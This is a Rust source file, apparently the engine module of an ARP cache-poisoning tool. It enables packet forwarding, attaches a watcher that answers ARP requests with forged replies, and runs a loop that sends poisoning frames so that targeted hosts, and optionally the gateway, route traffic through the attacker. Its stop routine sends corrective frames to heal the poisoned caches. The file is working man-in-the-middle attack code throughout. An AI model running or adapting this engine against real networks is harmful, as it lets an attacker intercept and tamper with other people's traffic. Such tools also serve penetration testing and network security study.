//! Engine lifecycle

use crate::context::{SpoofContext, SpoofEvent};
use crate::forge::ArpForger;
use crate::gateway::Gateway;
use crate::poison::poison_cycle;
use crate::watcher;
use arpoison_core::{Error, Result};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use tokio::task::JoinHandle;
use tokio::time::sleep;
use tracing::{debug, error, info, warn};

/// The poisoning engine.
///
/// Construction resolves the gateway and records the kernel's current
/// forwarding setting; `start` turns forwarding on, attaches the
/// request watcher and launches the poison loop; `stop` reverses all of
/// it and re-announces the genuine addresses so victim caches heal.
pub struct ArpSpoofer {
    ctx: SpoofContext,
    gateway: Gateway,
    forger: ArpForger,
    /// Forwarding setting observed at construction, restored verbatim on stop
    prior_forwarding: bool,
    running: Arc<AtomicBool>,
    loop_task: Option<JoinHandle<()>>,
}

impl ArpSpoofer {
    /// Build an engine for the given context.
    ///
    /// Fails with a resolution error when the gateway's hardware
    /// address cannot be determined; nothing else has been touched at
    /// that point.
    pub async fn new(ctx: SpoofContext) -> Result<Self> {
        info!(gateway = %ctx.config.gateway_ip, "resolving gateway");
        let gateway = Gateway::resolve(ctx.resolver.as_ref(), ctx.config.gateway_ip).await?;

        let prior_forwarding = ctx.firewall.forwarding_enabled()?;
        debug!(forwarding = prior_forwarding, "recorded forwarding setting");

        let forger = ArpForger::new(ctx.sender.clone(), ctx.local_ip);

        Ok(Self {
            ctx,
            gateway,
            forger,
            prior_forwarding,
            running: Arc::new(AtomicBool::new(false)),
            loop_task: None,
        })
    }

    pub fn is_running(&self) -> bool {
        self.running.load(Ordering::SeqCst)
    }

    /// The gateway identity this engine impersonates
    pub fn gateway(&self) -> Gateway {
        self.gateway
    }

    /// Begin poisoning.
    ///
    /// An engine that is already running is stopped and restarted so
    /// changed settings take effect. The watcher's capture is attached
    /// before the loop launches; if capture setup fails the start is
    /// aborted, forwarding is put back and the error surfaces.
    pub async fn start(&mut self) -> Result<()> {
        if self.is_running() {
            debug!("already running, restarting");
            self.stop().await?;
        }

        info!(
            gateway = %self.gateway,
            duplex = %self.ctx.config.duplex,
            targets = self.ctx.targets.size(),
            "starting ARP spoofer"
        );

        if !self.prior_forwarding {
            self.ctx.firewall.enable_forwarding(true)?;
            info!("packet forwarding enabled");
        }

        if let Err(e) = watcher::watch(
            self.ctx.capture.as_mut(),
            self.ctx.local_ip,
            self.ctx.interface.mac_address,
            self.forger.clone(),
        ) {
            error!(error = %e, "request watcher failed to start");
            if let Err(restore) = self.ctx.firewall.enable_forwarding(self.prior_forwarding) {
                warn!(error = %restore, "couldn't restore forwarding setting");
            }
            return Err(e);
        }

        self.running.store(true, Ordering::SeqCst);

        let running = Arc::clone(&self.running);
        let targets = Arc::clone(&self.ctx.targets);
        let resolver = Arc::clone(&self.ctx.resolver);
        let forger = self.forger.clone();
        let local_mac = self.ctx.interface.mac_address;
        let gateway = self.gateway;
        let duplex = self.ctx.config.duplex;
        let interval = self.ctx.config.poison_interval;
        let events = self.ctx.events.clone();

        self.loop_task = Some(tokio::spawn(async move {
            let mut prev_size = targets.size();

            while running.load(Ordering::SeqCst) {
                let size = targets.size();
                if size > prev_size {
                    warn!("acquired {} new targets", size - prev_size);
                    if let Some(tx) = &events {
                        let _ = tx.send(SpoofEvent::TargetsAcquired(size - prev_size));
                    }
                } else if size < prev_size {
                    warn!("lost {} targets", prev_size - size);
                    if let Some(tx) = &events {
                        let _ = tx.send(SpoofEvent::TargetsLost(prev_size - size));
                    }
                }
                prev_size = size;

                let sent = poison_cycle(
                    &targets,
                    resolver.as_ref(),
                    &forger,
                    local_mac,
                    &gateway,
                    duplex,
                )
                .await;
                debug!(frames = sent, "poison cycle complete");

                sleep(interval).await;
            }
        }));

        Ok(())
    }

    /// Stop poisoning and heal the victims' caches.
    ///
    /// Forwarding goes back to the value observed at construction, the
    /// loop and watcher shut down, and every resolved target (and in
    /// full-duplex mode the gateway) gets a corrective reply carrying
    /// the genuine hardware addresses.
    pub async fn stop(&mut self) -> Result<()> {
        if !self.is_running() {
            return Err(Error::NotRunning);
        }

        info!("stopping ARP spoofer");

        debug!(forwarding = self.prior_forwarding, "restoring forwarding setting");
        self.ctx.firewall.enable_forwarding(self.prior_forwarding)?;

        self.running.store(false, Ordering::SeqCst);
        if let Some(task) = self.loop_task.take() {
            task.abort();
        }
        self.ctx.capture.stop();

        let targets = self.ctx.targets.snapshot();
        info!(targets = targets.len(), "restoring poisoned caches");
        for target in &targets {
            let mac = match target.mac {
                Some(mac) => mac,
                // Never poisoned, nothing to undo.
                None => continue,
            };

            if let Err(e) = self.forger.forge(self.gateway.ip, self.gateway.mac, target.ip, mac) {
                warn!(target = %target.ip, error = %e, "corrective frame failed");
            }
            if !self.ctx.config.duplex.is_half() {
                if let Err(e) = self.forger.forge(target.ip, mac, self.gateway.ip, self.gateway.mac)
                {
                    warn!(target = %target.ip, error = %e, "corrective frame failed");
                }
            }
        }

        // Let the corrective frames land before the caller tears down
        // the interface underneath them.
        sleep(self.ctx.config.settle_delay).await;

        info!("ARP spoofer stopped");
        Ok(())
    }
}
